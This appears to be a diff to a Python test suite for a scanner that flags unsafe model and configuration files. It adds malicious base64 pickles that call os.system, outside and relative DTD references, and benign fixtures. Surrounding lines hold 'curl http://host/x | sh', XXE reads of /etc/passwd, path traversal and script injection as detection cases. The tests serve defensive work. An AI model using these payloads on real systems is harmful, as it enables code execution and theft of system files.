@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import base64
 import json
+import pickle
 import random
 
 import pytest
@@ -76,6 +78,11 @@ HONEST = {
     "settings.toml": '[tool]\nname = "x"\n',
     "model.pmml": PMML,
     "plot.svg": SVG,
+    "listed.xml": '<?xml version="1.0"?><!DOCTYPE dblp SYSTEM "dblp.dtd"><dblp/>',
+    "fonts.conf": '<?xml version="1.0"?><!DOCTYPE fontconfig SYSTEM "urn:fontconfig:fonts.dtd"><fontconfig/>',
+    "data": json.dumps(
+        {"policy": {":type:": "x", ":serialized:": base64.b64encode(pickle.dumps({"a": 1})).decode()}}
+    ),
     "openvino.xml": '<?xml version="1.0"?><net name="m" version="11"><layers/></net>',
     "README.md": "Use `!!python/object/apply:os.system` never.\n\n{{ x.__class__ }}\n",
     "glob.yaml": "include: *.py\nother: *undefined\n",
@@ -186,6 +193,12 @@ SETTINGS = [
     ({"init": "__import__('os').system('echo')"}, "code_in_setting"),
     ({"command": "curl http://host/x | sh"}, "code_in_setting"),
     ({"state": "gASVHAAAAAAAAACMBXBvc2l4lIwGc3lzdGVt"}, "pickle"),
+    (
+        {"a": {":serialized:": base64.b64encode(b"\x80\x04cos\nsystem\nX\x01\x00\x00\x00x\x85R.").decode()}},
+        "pickle",
+    ),
+    ({"a": {":serialized:": "!" + base64.b64encode(b"\x80\x04K\x01.").decode()}}, "pickle"),
+    ({"a": {":serialized:": base64.b64encode(b"cteam\nModel\n.").decode()}}, "pickle"),
     ({"title": "<script>alert(1)</script>"}, "script"),
     ({"metadata": {}, "weight_map": {"a": "../../etc/passwd"}}, "weights_elsewhere"),
     ({"auto_mapping": {"base_model_class": "system", "parent_library": "os"}}, "target:os.system"),
@@ -254,6 +267,8 @@ def test_aliases_that_multiply_are_told():
         ('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>', "entity"),
         ('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><x>&b;</x>', "entity"),
         ('<!DOCTYPE x SYSTEM "http://host/x.dtd"><x/>', "outside_definition"),
+        ('<!DOCTYPE x SYSTEM "http://host/?http://www.w3.org/"><x/>', "outside_definition"),
+        ('<!DOCTYPE x SYSTEM "../x.dtd"><x/>', "outside_definition"),
         ('<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></x>', "include"),
         ("<svg><script>fetch('x')</script></svg>", "script"),
         ("<PMML><Extension name='x' value='java.lang.Runtime'/></PMML>", "code"),
